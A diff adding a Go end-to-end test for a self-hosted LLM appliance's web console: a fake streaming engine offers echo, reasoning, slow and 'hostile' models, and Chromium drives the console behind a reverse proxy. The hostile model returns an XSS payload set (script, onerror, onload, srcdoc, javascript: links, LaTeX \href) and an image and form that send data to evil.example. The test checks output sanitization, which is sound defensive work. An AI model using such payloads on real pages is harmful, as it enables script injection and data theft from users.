@@ -1,0 +1,133 @@
+package scenarios
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// Limits of the browser's test.
+const consoleMax = 8 * time.Minute
+
+// TestConsole has a browser use the console of the real binary: console/e2e says what
+// for. What it takes is installed by `make test`; without it the test says so.
+func TestConsole(t *testing.T) {
+	const folder = "../console"
+	chromium := chromiumPath()
+	if chromium == "" {
+		t.Skip("there is no Chromium here, and only root can install it: apt-get install chromium")
+	}
+	if _, err := os.Stat(filepath.Join(folder, "node_modules", "playwright-core")); err != nil {
+		t.Skip("the console's tools are not installed: make deps")
+	}
+	engine := httptest.NewServer(http.HandlerFunc(oneThingToSay))
+	defer engine.Close()
+	home := t.TempDir()
+	put(t, filepath.Join(home, "data", "hearth.yaml"), []byte(fmt.Sprintf("upstreams:\n  - {name: gpu, url: %q}\n", engine.URL+"/v1")))
+	up := hearth(home, "up", "--json", "--listen", "127.0.0.1:0")
+	up.Env = append(up.Env, "HEARTH_STARTER=true") // the first key, the starter model: as a newcomer finds it
+	s := listening(t, home, up)
+	proxy := proxied(t, s.url)
+	shots, err := filepath.Abs("../build/console")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(t.Context(), consoleMax)
+	defer cancel()
+	browser := exec.CommandContext(ctx, "node", "--test", "--test-reporter=spec", "e2e/console.test.mjs")
+	browser.Dir = folder
+	browser.Env = append(os.Environ(), "HEARTH_URL="+s.url, "HEARTH_KEY="+s.key, "HEARTH_PROXIED="+proxy, "HEARTH_SHOTS="+shots, "CHROMIUM="+chromium)
+	out, err := browser.CombinedOutput()
+	if err != nil {
+		t.Fatalf("%v (pictures are in %s)\n%s", err, shots, out)
+	}
+	t.Logf("pictures are in %s\n%s", shots, out)
+}
+
+func chromiumPath() string {
+	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
+		if path, err := exec.LookPath(name); err == nil {
+			return path
+		}
+	}
+	return ""
+}
+
+// proxied serves the appliance below a path, as a house's own web server would.
+func proxied(t *testing.T, target string) string {
+	t.Helper()
+	u, err := url.Parse(target)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := &httputil.ReverseProxy{FlushInterval: -1, Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(u) }}
+	front := httptest.NewServer(http.StripPrefix("/tools/hearth", p))
+	t.Cleanup(front.Close)
+	return front.URL + "/tools/hearth"
+}
+
+// sheet is an answer that has everything an answer can have.
+const sheet = "## 排版\n\n| 算法 | 复杂度 |\n|---|---|\n| 快速排序 | $O(n \\log n)$ |\n| 冒泡排序 | $O(n^2)$ |\n\n```python\ndef f(x):\n    return x * 2\n```\n\n" +
+	"公式：\n\n$$\nE = mc^2\n$$\n\n- 一\n- 二\n\n> 引用，见[手册](https://example.com)。\n"
+
+// attack is an answer that means harm. The unit tests have more.
+const attack = "<script>window.hit=1</script>\n\n<img src=x onerror=\"window.hit=1\">\n\n<svg onload=window.hit=1></svg>\n\n<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>\n\n" +
+	"[x](javascript:window.hit=1)\n\n![x](https://evil.example/?q=secret)\n\n<style>*{display:none}</style>\n\n<form action=https://evil.example><input></form>\n\n" +
+	"$\\href{javascript:window.hit=1}{x}$\n\n```html\n<script>window.hit=1</script>\n```\n"
+
+// oneThingToSay is an engine whose models each have one thing to say.
+func oneThingToSay(w http.ResponseWriter, r *http.Request) {
+	if r.URL.Path == "/v1/models" {
+		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"}]}`)
+		return
+	}
+	var in struct {
+		Model    string
+		Messages []struct{ Content string }
+	}
+	if err := json.NewDecoder(r.Body).Decode(&in); err != nil || len(in.Messages) == 0 {
+		http.Error(w, "what?", http.StatusBadRequest)
+		return
+	}
+	w.Header().Set("Content-Type", "text/event-stream")
+	tell := func(field, text string) error {
+		delta, _ := json.Marshal(map[string]any{"choices": []any{map[string]any{"index": 0, "delta": map[string]string{field: text}}}})
+		_, err := fmt.Fprintf(w, "data: %s\n\n", delta)
+		return errors.Join(err, http.NewResponseController(w).Flush())
+	}
+	switch in.Model {
+	case "thinker":
+		_ = tell("reasoning_content", "先想一想：")
+		for word := range strings.SplitAfterSeq(sheet, "\n") {
+			_ = tell("content", word)
+		}
+	case "hostile":
+		_ = tell("content", attack)
+	case "slow": // counts until it is stopped, for half a minute at most
+		for n := 1; n < 300; n++ {
+			if tell("content", fmt.Sprintf("%d ", n)) != nil {
+				return
+			}
+			select {
+			case <-r.Context().Done():
+				return
+			case <-time.After(100 * time.Millisecond):
+			}
+		}
+	default:
+		_ = tell("content", "echo: "+in.Messages[len(in.Messages)-1].Content)
+	}
+	_, _ = fmt.Fprint(w, `data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`+"\n\n"+
+		`data: {"choices":[],"usage":{"prompt_tokens":7,"completion_tokens":42,"total_tokens":49}}`+"\n\ndata: [DONE]\n\n")
+}
